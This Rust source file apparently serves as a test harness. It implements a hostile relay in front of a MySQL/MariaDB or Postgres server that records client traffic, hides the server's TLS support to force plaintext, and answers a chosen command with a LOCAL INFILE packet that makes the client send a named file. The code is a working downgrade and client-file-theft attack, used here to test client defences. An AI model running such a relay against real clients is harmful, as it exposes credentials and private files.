//! A relay in front of a database server that an attacker controls.
//!
//! It records every byte that clients send. It can hide that the server offers TLS, or answer a command of MySQL's protocol
//! with a request for a file of the client.

use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinHandle;

use crate::database::Engine;
use crate::wait;

/// The time in which the client must end the connection on which a file was requested.
const CONTENT_TIMEOUT: Duration = Duration::from_secs(30);

/// What the attacker does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Attack {
    /// Forwards and records.
    Listen,
    /// Hides that the server offers TLS.
    HideTls,
    /// Requests this file in place of a response. Only for MySQL's protocol without TLS.
    RequestFile {
        /// The command that is not forwarded. Commands are counted from 0 over all connections, logins included.
        command: usize,
        /// The path of the file.
        path: String,
    },
}

/// A request for a file, and the client's response.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileRequest {
    /// The text of the statement that was not forwarded, or a name for a command without one.
    pub command: String,
    /// The content that the client sent.
    pub content: Vec<u8>,
}

/// A running relay. It stops when the value is dropped.
#[derive(Debug)]
pub struct Attacker {
    port: u16,
    shared: Arc<Shared>,
    accepting: JoinHandle<()>,
}

#[derive(Debug)]
struct Shared {
    engine: Engine,
    server_port: u16,
    attack: Attack,
    commands: AtomicUsize,
    received: Mutex<Vec<u8>>,
    has_requested: AtomicBool,
    file_request: Mutex<Option<FileRequest>>,
}

impl Attacker {
    /// Starts a relay in front of the server's port.
    pub async fn start(engine: Engine, server_port: u16, attack: Attack) -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let port = listener.local_addr()?.port();
        let shared = Arc::new(Shared {
            engine,
            server_port,
            attack,
            commands: AtomicUsize::new(0),
            received: Mutex::default(),
            has_requested: AtomicBool::new(false),
            file_request: Mutex::default(),
        });
        let accepting = tokio::spawn(accept(listener, Arc::clone(&shared)));
        Ok(Self { port, shared, accepting })
    }

    /// The port of the relay on 127.0.0.1.
    pub fn port(&self) -> u16 {
        self.port
    }

    /// Every byte that clients have sent.
    pub fn received(&self) -> Vec<u8> {
        self.shared.received.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    /// The request for a file, when the client has sent the content or ended the connection. `None` if the clients sent fewer
    /// commands.
    pub async fn file_request(&self) -> Result<Option<FileRequest>> {
        let found = || self.shared.file_request.lock().unwrap_or_else(PoisonError::into_inner).clone();
        if self.shared.has_requested.load(Ordering::SeqCst) {
            wait::until("the client's response", CONTENT_TIMEOUT, async || Ok(found().is_some())).await?;
        }
        Ok(found())
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.accepting.abort();
    }
}

async fn accept(listener: TcpListener, shared: Arc<Shared>) {
    while let Ok((client, _)) = listener.accept().await {
        let shared = Arc::clone(&shared);
        // A connection that breaks off ends its task. The client sees the closed socket.
        tokio::spawn(async move { drop(serve(client, &shared).await) });
    }
}

/// Serves one connection until one side closes it or the attack has ended.
async fn serve(client: TcpStream, shared: &Shared) -> Result<()> {
    let server = TcpStream::connect(("127.0.0.1", shared.server_port)).await?;
    let (mut from_client, mut to_client) = client.into_split();
    let (mut from_server, to_server) = server.into_split();
    match shared.engine {
        Engine::MariaDb => {
            let mut greeting = read_packet(&mut from_server).await?;
            if shared.attack == Attack::HideTls {
                hide_tls(&mut greeting);
            }
            to_client.write_all(&greeting).await?;
        }
        Engine::Postgres if shared.attack == Attack::HideTls => {
            // The client's first message asks for TLS. `N` means that the server has none.
            let mut request = [0; 8];
            from_client.read_exact(&mut request).await?;
            shared.record(&request);
            to_client.write_all(b"N").await?;
        }
        Engine::Postgres => {}
    }
    let to_client = tokio::sync::Mutex::new(to_client);
    tokio::select! {
        ended = forward_client(from_client, to_server, &to_client, shared) => ended,
        ended = forward_server(from_server, &to_client) => ended,
    }
}

async fn forward_server(mut from: OwnedReadHalf, to: &tokio::sync::Mutex<OwnedWriteHalf>) -> Result<()> {
    let mut buffer = vec![0; 64 * 1024];
    loop {
        let read = from.read(&mut buffer).await?;
        if read == 0 {
            return Ok(());
        }
        to.lock().await.write_all(&buffer[..read]).await?;
    }
}

async fn forward_client(
    mut from: OwnedReadHalf,
    mut to: OwnedWriteHalf,
    to_client: &tokio::sync::Mutex<OwnedWriteHalf>,
    shared: &Shared,
) -> Result<()> {
    let Attack::RequestFile { command, path } = &shared.attack else {
        let mut buffer = vec![0; 64 * 1024];
        loop {
            let read = from.read(&mut buffer).await?;
            if read == 0 {
                return Ok(());
            }
            shared.record(&buffer[..read]);
            to.write_all(&buffer[..read]).await?;
        }
    };
    let mut is_login = true;
    loop {
        let packet = read_packet(&mut from).await?;
        let name = if std::mem::take(&mut is_login) { Some("login".to_owned()) } else { command_name(&packet) };
        if let Some(name) = name
            && shared.commands.fetch_add(1, Ordering::SeqCst) == *command
        {
            shared.has_requested.store(true, Ordering::SeqCst);
            to_client.lock().await.write_all(&file_request(&packet, path)).await?;
            let content = read_content(&mut from).await;
            *shared.file_request.lock().unwrap_or_else(PoisonError::into_inner) =
                Some(FileRequest { command: name, content });
            return Ok(());
        }
        to.write_all(&packet).await?;
    }
}

impl Shared {
    fn record(&self, bytes: &[u8]) {
        self.received.lock().unwrap_or_else(PoisonError::into_inner).extend_from_slice(bytes);
    }
}

/// A packet of MySQL's protocol, with its header: three bytes of length and a sequence number.
async fn read_packet(from: &mut OwnedReadHalf) -> Result<Vec<u8>> {
    let mut packet = vec![0; 4];
    from.read_exact(&mut packet).await?;
    packet.resize(4 + usize::from(packet[0]) + (usize::from(packet[1]) << 8) + (usize::from(packet[2]) << 16), 0);
    from.read_exact(&mut packet[4..]).await?;
    Ok(packet)
}

/// Clears the flag CLIENT_SSL in the server's first packet.
fn hide_tls(greeting: &mut [u8]) {
    const CLIENT_SSL: u8 = 0x08;
    // The header and the protocol's version, the server's version, a connection id (4), a part of the challenge (8), a zero.
    let version = greeting[5..].iter().position(|&byte| byte == 0).expect("a version ends with a zero");
    greeting[5 + version + 1 + 4 + 8 + 1 + 1] &= !CLIENT_SSL;
}

/// The text of a statement, or a name for another command. `None` if the server sends no response to this packet.
fn command_name(packet: &[u8]) -> Option<String> {
    const QUIT: u8 = 1;
    const QUERY: u8 = 3;
    const PREPARE: u8 = 22;
    const EXECUTE: u8 = 23;
    const CLOSE_STATEMENT: u8 = 25;
    // A packet with another sequence number continues a command.
    let is_command = packet[3] == 0;
    match packet.get(4) {
        Some(&(QUIT | CLOSE_STATEMENT)) | None => None,
        Some(_) if !is_command => None,
        Some(&(QUERY | PREPARE)) => Some(String::from_utf8_lossy(&packet[5..]).into_owned()),
        Some(&EXECUTE) => Some("execute".to_owned()),
        Some(other) => Some(format!("command {other}")),
    }
}

/// The packet that requests a file, as the response to a packet of the client.
fn file_request(packet: &[u8], path: &str) -> Vec<u8> {
    const LOCAL_INFILE: u8 = 0xFB;
    let length = u8::try_from(1 + path.len()).expect("a short path");
    [&[length, 0, 0, packet[3].wrapping_add(1), LOCAL_INFILE], path.as_bytes()].concat()
}

/// The content that the client sends: packets until an empty one, the next command, or the end of the connection.
async fn read_content(from: &mut OwnedReadHalf) -> Vec<u8> {
    let mut content = Vec::new();
    while let Ok(packet) = read_packet(from).await
        && packet.len() > 4
        && packet[3] != 0
    {
        content.extend_from_slice(&packet[4..]);
    }
    content
}
